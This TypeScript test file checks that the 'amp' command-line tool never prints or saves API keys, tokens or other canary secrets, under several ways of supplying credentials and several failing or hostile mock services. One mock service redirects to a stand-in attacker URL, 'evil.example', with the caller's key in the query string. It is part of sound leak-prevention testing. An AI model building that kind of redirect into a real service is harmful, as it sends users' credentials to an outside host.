import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { type Outcome, type RunInput, run, sandboxAt } from "../harness.ts";
import { sampleFor } from "../sample.ts";
import { temporaryFolder } from "../temporary-folder.ts";
import { INVOCATIONS } from "./invocations.ts";
import { goodArgs, leaves } from "./leaves.ts";
import { FORMS, problem, SECRET_PROBES, seen, seenInFiles } from "./secret-probe.ts";

beforeEach(() => {
  vi.spyOn(Math, "random").mockReturnValue(0);
});
afterEach(() => {
  vi.restoreAllMocks();
  vi.unstubAllGlobals();
});

const URL_OF_SANDBOX = "http://127.0.0.1:4747/v1";

/** How the key gets in; each is tried with every command. */
const WAYS: Readonly<Record<string, (cwd: string) => Given | Promise<Given>>> = {
  "a key of the environment": () => ({ env: { AMP_API_KEY: SECRET_PROBES.key }, args: [] }),
  "a token of the environment": () => ({
    env: { AMP_ACCESS_TOKEN: SECRET_PROBES.token },
    args: [],
  }),
  "a file": (cwd) => {
    writeFileSync(join(cwd, "key.txt"), SECRET_PROBES.key);
    return { env: {}, args: ["--api-key-file", "key.txt"] };
  },
  "a saved login": async (cwd) => {
    const folder = join(cwd, "saved");
    const argv = ["auth", "login", "--profile", "mine", "--api-key-file", "-"];
    const login = await run(argv, {
      cwd,
      stdin: SECRET_PROBES.key,
      env: { AMP_API_KEY: undefined, AMP_CONFIG_DIR: folder, AMP_BASE_URL: URL_OF_SANDBOX },
      fetch: async () => Response.json([]),
    });
    if (login.code !== 0) throw new Error(login.stderr);
    return { env: { AMP_CONFIG_DIR: folder, AMP_BASE_URL: undefined }, args: [] };
  },
};

interface Given {
  readonly env: Record<string, string | undefined>;
  readonly args: string[];
}

/** Where it stands already, and may go on standing. */
const STANDS: Readonly<Record<string, string>> = {
  "a file": "key.txt",
  "a saved login": "saved/credentials.json",
};

/** Of files that hold canaries, those that should not. */
function leaked(cwd: string, way: string): Record<string, string[]> {
  const { [STANDS[way] ?? ""]: _, ...others } = seenInFiles(cwd);
  return others;
}

/** What the service may do to a request that carries a secret. */
const SERVICES: Readonly<Record<string, (request: Request, echo: string) => Promise<Response>>> = {
  "refuses and repeats": async (_request, echo) => problem(400, echo),
  "does not know and repeats": async (_request, echo) => problem(401, echo),
  "fails and repeats": async (_request, echo) => problem(500, echo),
  "answers a page that repeats": async (_request, echo) =>
    new Response(`<html>${echo}</html>`, { headers: { "content-type": "text/html" } }),
  "redirects to an address that repeats": async (request) =>
    new Response(null, {
      status: 302,
      headers: { location: `https://evil.example/?k=${encodeURIComponent(keyOf(request))}` },
    }),
  "breaks off in words that repeat": async (_request, echo) => {
    throw new TypeError(`fetch failed: ${echo}`, { cause: new Error(echo) });
  },
  "is a bug in amp": async (_request, echo) =>
    ({
      get status(): number {
        throw new RangeError(`a crash with ${echo}`);
      },
    }) as Response,
};

function keyOf({ headers }: Request): string {
  return headers.get("x-api-key") ?? headers.get("authorization")?.replace("Bearer ", "") ?? "";
}

/** All that came with a request, in each form. */
async function echoOf(request: Request): Promise<string> {
  const key = keyOf(request);
  const forms = FORMS.filter(
    ({ name }) => SECRET_PROBES[name as keyof typeof SECRET_PROBES] === key,
  );
  return [...forms.map(({ form }) => form), await request.clone().text()].join(" ");
}

async function runWith(
  path: string,
  way: string,
  world: RunInput & { more?: readonly string[] } = {},
): Promise<Outcome & { cwd: string }> {
  const sandbox = sandboxAt();
  const cwd = temporaryFolder();
  await INVOCATIONS[path]?.before?.(cwd, sandbox);
  const given = await WAYS[way]?.(cwd);
  const fetch = async (request: Request) => {
    if (world.fetch) return world.fetch(request);
    // The sandbox knows its own key alone.
    request.headers.delete("authorization");
    request.headers.set("x-api-key", "sandbox-api-key");
    return sandbox.fetch(request);
  };
  const env = {
    ...{ AMP_PROFILE: undefined, AMP_BASE_URL: URL_OF_SANDBOX, AMP_PROJECT: "acme" },
    AMP_RETRIES: "0",
    ...{
      AWS_SECRET_ACCESS_KEY: SECRET_PROBES.aws,
      AMP_STATE_PASSWORD: SECRET_PROBES.statePassword,
    },
    ...{ HTTP_PROXY: `http://canary:${SECRET_PROBES.proxy}@proxy.example:3128` },
    ...given?.env,
    ...world.env,
  };
  const more = [...(given?.args ?? []), "--debug", ...(world.more ?? [])];
  const argv = [...path.split(" "), ...goodArgs(path, sandbox), ...more];
  const outcome = await run(argv, {
    sandbox,
    cwd,
    ...INVOCATIONS[path]?.world?.(),
    ...world,
    env,
    fetch,
  });
  return { ...outcome, cwd };
}

/** `amp auth token` prints a secret, that is its job; `amp api` and its answer are the person's own. */
const PRINTS_SECRETS = new Set(["auth token", "api"]);

describe.each(leaves.map(({ path }) => path))("amp %s", (path) => {
  it.each(Object.keys(WAYS))("shows and saves nothing of %s", async (way) => {
    for (const more of [[], ["--json"]]) {
      const { stdout, stderr, cwd } = await runWith(path, way, { more });
      expect(seen(stderr)).toEqual([]);
      if (!PRINTS_SECRETS.has(path)) expect(seen(stdout)).toEqual([]);
      // The login saves what it was given: that is its job.
      const saved = path === "auth login" && way === "a file" ? "config/credentials.json" : "";
      const { [saved]: _, ...others } = leaked(cwd, way);
      expect(others).toEqual({});
    }
  });

  it.each(Object.keys(SERVICES))(
    "shows and saves nothing where the service %s",
    async (service) => {
      const place = leaves.findIndex((leaf) => leaf.path === path);
      const ways = [...Object.keys(WAYS).entries()];
      for (const [nth, way] of sampleFor(place + Object.keys(SERVICES).indexOf(service), 1, ways)) {
        const fetch = async (request: Request) =>
          (SERVICES[service] as (typeof SERVICES)[string])(request, await echoOf(request));
        const more = nth === 1 ? ["--json"] : [];
        const { stdout, stderr, cwd } = await runWith(path, way, { fetch, more });
        expect(seen(stderr)).toEqual([]);
        if (!PRINTS_SECRETS.has(path)) expect(seen(stdout)).toEqual([]);
        expect(leaked(cwd, way)).toEqual({});
      }
    },
  );
});
